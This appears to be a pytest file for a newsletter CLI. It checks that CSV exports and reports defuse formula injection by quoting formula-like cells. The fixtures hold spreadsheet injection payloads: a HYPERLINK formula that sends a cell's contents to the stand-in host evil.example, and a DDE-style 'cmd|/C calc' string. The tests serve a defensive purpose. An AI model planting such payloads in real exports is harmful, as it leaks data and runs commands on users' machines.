"""CSV output opened in a spreadsheet never runs what a stranger typed (OWASP "CSV injection"):
``send --dry-run --csv``, ``report --format csv`` and ``subscribers export`` write a cell that
starts like a formula with a leading ``'``, and ``subscribers import`` of an export takes it
off again. A real CLI in a subprocess, a real SQLite store, a real SMTP server on 127.0.0.1.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from helpers import SAMPLE_ISSUE, RunCli, edit, use_relay
from support.faults import refuse
from support.smtp_sink import SmtpSink

LIST = "lists/subscribers.csv"
LINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
# A list row whose address cell is a formula: an invalid row, recorded as such
BAD_ROW = '"=HYPERLINK(""http://evil.example/"",""x"")",Bad,en,\n'
REPLY = "550 -2+3+cmd|' /C calc'!A0"  # a relay's answer is outside input too


def add_rows(project: Path, *rows: str) -> None:
    with (project / LIST).open("a", encoding="utf-8", newline="") as handle:
        handle.write("".join(rows))


def test_dry_run_csv_quotes_formula_cells(project: Path, run_cli: RunCli) -> None:
    add_rows(project, f'mallory@example.net,"{LINK.replace(chr(34), chr(34) * 2)}",en,\n',
             "plus@example.net,+1 555 0100,en,\n", "at@example.net,@SUM(1+1)*cmd,en,\n")
    result = run_cli("send", SAMPLE_ISSUE, "--dry-run", "--csv", "-")
    assert result.code == 0, result.err
    rows = {row[0]: row for row in csv.reader(io.StringIO(result.out))}
    assert rows["mallory@example.net"] == ["mallory@example.net", "'" + LINK, "en",
                                           "subscribers", "send", ""]
    assert rows["plus@example.net"][1] == "'+1 555 0100"
    assert rows["at@example.net"][1] == "'@SUM(1+1)*cmd"
    assert rows["maria.georgiou@example.org"][1] == "Maria Georgiou"  # others as they were


@pytest.mark.smtp_fault(rules=[refuse("peter.novak@example.org", REPLY)])
def test_report_csv_quotes_addresses_and_relay_answers(project: Path, run_cli: RunCli,
                                                      sink: SmtpSink) -> None:
    use_relay(project, sink.url, paced=True)
    add_rows(project, BAD_ROW)
    sent = run_cli("send", SAMPLE_ISSUE, "--yes")
    assert sent.code == 1, sent.err  # the 550
    result = run_cli("report", "--format", "csv")
    assert result.code == 0, result.err
    rows = list(csv.DictReader(io.StringIO(result.out)))
    bad = [r for r in rows if r["status"] == "invalid"]
    assert [r["email"] for r in bad] == ["'" + '=HYPERLINK("http://evil.example/","x")']
    failed = next(r for r in rows if r["status"] == "failed")
    assert failed["smtp_code"] == "550"  # a number the program wrote: as it is
    assert failed["smtp_response"] == "'" + REPLY.removeprefix("550 ")
    assert not [cell for row in csv.reader(io.StringIO(result.out)) for cell in row
                if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    # JSON is exact: the same cells without the quote
    data = json.loads(run_cli("report", "--format", "json").out)[0]
    assert {r["email"] for r in data["recipients"] if r["status"] == "invalid"} == {
        '=HYPERLINK("http://evil.example/","x")'}


def test_an_export_imports_back_unchanged(project: Path, run_cli: RunCli) -> None:
    add_rows(project, f'mallory@example.net,"{LINK.replace(chr(34), chr(34) * 2)}",en,'
                      "-Org\n", "at@example.net,@handle,en,+Plus\n")
    exported = run_cli("subscribers", "export", "--list", "subscribers", "--status", "active")
    assert exported.code == 0, exported.err
    assert f"mallory@example.net,\"'{LINK.replace(chr(34), chr(34) * 2)}\",en," in exported.out
    (project / "export.csv").write_text(exported.out, encoding="utf-8")
    (project / "lists/copy.csv").write_text("email,name,lang,organisation\n",
                                            encoding="utf-8")
    result = run_cli("subscribers", "import", "export.csv", "--list", "copy")
    assert result.code == 0, result.err
    copied = list(csv.reader(io.StringIO((project / "lists/copy.csv").read_text("utf-8"))))
    assert copied[-2:] == [["mallory@example.net", LINK, "en", "-Org"],
                           ["at@example.net", "@handle", "en", "+Plus"]]


def test_period_csv_quotes_a_subject_that_starts_like_a_formula(project: Path,
                                                                run_cli: RunCli) -> None:
    edit(project / SAMPLE_ISSUE / "issue.yaml",  # the report names the subject as sent
         "  en: \"MIraGE news: final partners' meeting and lessons learned\"",
         "  en: \"-1+1 MIraGE news\"")
    assert run_cli("send", SAMPLE_ISSUE, "--yes").code == 0
    result = run_cli("report", "--period", "2000-01-01..2099-12-31", "--format", "csv")
    assert result.code == 0, result.err
    rows = list(csv.DictReader(io.StringIO(result.out)))
    assert [(r["subject"], r["reached"]) for r in rows[:-1]] == [("'-1+1 MIraGE news", "5")]


def test_dry_run_list_keeps_its_columns_when_a_name_holds_a_tab(project: Path,
                                                                 run_cli: RunCli) -> None:
    """``--list`` is tab-separated: a tab inside a name shifted the language and list columns
    of that line (an outside audit: 837 of 200,000 lines had five fields)."""
    add_rows(project, '"tab@example.net","Smith,\tBob",en,\n')
    result = run_cli("send", SAMPLE_ISSUE, "--dry-run", "--list")
    assert result.code == 0, result.err
    lines = [line for line in result.out.splitlines() if line.startswith("tab@example.net")]
    assert lines == ["tab@example.net\tSmith, Bob\ten\tsubscribers"]
    sent = result.out.split("# not sent now")[0]
    assert all(line.count("\t") == 3 for line in sent.splitlines() if "@" in line)
